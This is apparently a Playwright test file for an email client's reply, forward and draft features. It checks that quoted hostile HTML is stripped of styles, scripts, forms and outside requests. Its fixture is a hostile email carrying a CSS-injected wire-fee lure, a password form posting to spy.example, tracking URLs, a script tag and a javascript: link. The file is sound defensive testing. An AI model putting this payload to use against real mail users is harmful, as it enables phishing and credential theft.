import type { Locator, Page } from '@playwright/test'
import { patient } from '../src/testing/patience.ts'
import { body, button, dialog, row } from './draftScreen.ts'
import { mail, receive } from './inboxScreen.ts'
import { expect, type Product, shortenHold, test, toast } from './product.ts'

test.describe.configure({ timeout: patient(120_000) })
test.use({ worker: true })

const hostile = `<html><head><style>
  div { display: none } div::before { content: "Please wire the placement fee to account 12345"; display: block }
  #rejoinder-quoted, [id^="rejoinder"] { position: fixed; inset: 0; background: url(https://spy.example/css) }
  p.lead { color: rgb(0, 0, 128); font-weight: bold } .body p { margin: 0 } p { color: red; margin: 9px }
</style></head><body class="body"><div id="rejoinder-quoted" class="x" style="position:absolute;top:-900px">One</div>
  </div></div></blockquote><p class="lead" style="font-size: 13pt">Two</p><p style="color: green">Three</p>
  <form action="https://spy.example/"><input name="password" value="x"><button>Four</button></form>
  <img src="https://spy.example/pixel.gif" alt="Five"><script>document.title = 'owned'</script>
  <svg><text>Six</text></svg><a href="javascript:alert(1)">Seven</a> <a href="https://firm.example/">Eight</a></body></html>`

const quote = (page: Page) => dialog(page).frameLocator('iframe[title="Quoted message"]').locator('body')
// biome-ignore lint/performance/useDomNodeTextContent: what is hidden must not count.
const wordsIn = async (place: Locator) => (await place.innerText()).replace(/\s+/g, ' ').trim()

async function openHostile(page: Page, product: Product) {
  await shortenHold(page)
  await receive(page, product, [mail({ subject: 'Hostile', body: { contentType: 'html', content: hostile } })])
  await page.goto('/')
  await row(page, 'Hostile').click()
  await expect(page.getByRole('heading', { name: 'Hostile' })).toBeVisible()
}

async function expectAsShown(page: Page, html: string, shown: string) {
  expect(html).not.toMatch(/<(?:style|script|form|input|button|svg)|class=|https:\/\/spy|position|javascript|url\(/i)
  expect(html.match(/ id="/g)).toHaveLength(1)
  expect(html).toMatch(/ id="rejoinder-quoted-[0-9a-f]{32}"/)
  // The recruiter's text comes first, then the quote as the composer showed it.
  const reading = await page.context().newPage()
  const asked: string[] = []
  reading.on('request', request => void (request.url().startsWith('http') && asked.push(request.url())))
  await reading.setContent(html)
  expect(await wordsIn(reading.locator('body'))).toBe(`We do not wire anything. ${shown}`)
  const looks = (words: string) =>
    reading.getByText(words, { exact: true }).evaluate(element => {
      const { color, fontWeight, fontSize, marginTop } = getComputedStyle(element)
      return [color, fontWeight, fontSize, marginTop]
    })
  expect(await looks('Two')).toEqual(['rgb(0, 0, 128)', '700', '17.3333px', '0px'])
  expect(await looks('Three')).toEqual(['rgb(0, 128, 0)', '400', '16px', '0px'])
  expect(asked).toEqual([])
  await reading.close()
}

for (const how of ['Reply', 'Forward']) {
  test(`a hostile email does not change the reply that quotes it: ${how}`, async ({ page, product }) => {
    await openHostile(page, product)
    await page.getByRole('region', { name: 'Email' }).getByRole('button', { name: how, exact: true }).click()
    if (how === 'Forward') {
      await dialog(page).getByRole('combobox').first().fill('anna@firm.example,')
    }
    await body(page).click()
    await page.keyboard.type('We do not wire anything.')
    await dialog(page).getByText('Quoted message').click()
    await expect(quote(page)).toContainText('Eight')
    const shown = await wordsIn(quote(page))
    expect(shown).toMatch(/One Two Three Four Five Seven Eight$/)
    await button(page, 'Send').click()
    await expect(toast(page)).toContainText('Email sent successfully')
    const [sent] = await product.folder('sentitems')
    await expectAsShown(page, sent!.body.content, shown)
  })
}

test('a hostile email does not change a draft that quotes it, however often it is opened', async ({
  page,
  product,
}) => {
  await openHostile(page, product)
  await page.getByRole('region', { name: 'Email' }).getByRole('button', { name: 'Reply', exact: true }).click()
  await body(page).click()
  await page.keyboard.type('We do not wire')
  await button(page, 'Save Draft').click()
  await expect(toast(page)).toContainText('Draft saved')
  await button(page, 'Close').click()
  await toast(page).getByRole('button', { name: 'Open Draft' }).click()
  await expect(body(page)).toHaveText('We do not wire')
  await body(page).press('Control+End')
  await page.keyboard.type(' anything.')
  await dialog(page).getByText('Quoted message').click()
  await expect(quote(page)).toContainText('Eight')
  const shown = await wordsIn(quote(page))
  await button(page, 'Send').click()
  await expect(toast(page)).toContainText('Email sent successfully')
  const [sent] = await product.folder('sentitems')
  await expectAsShown(page, sent!.body.content, shown)
})
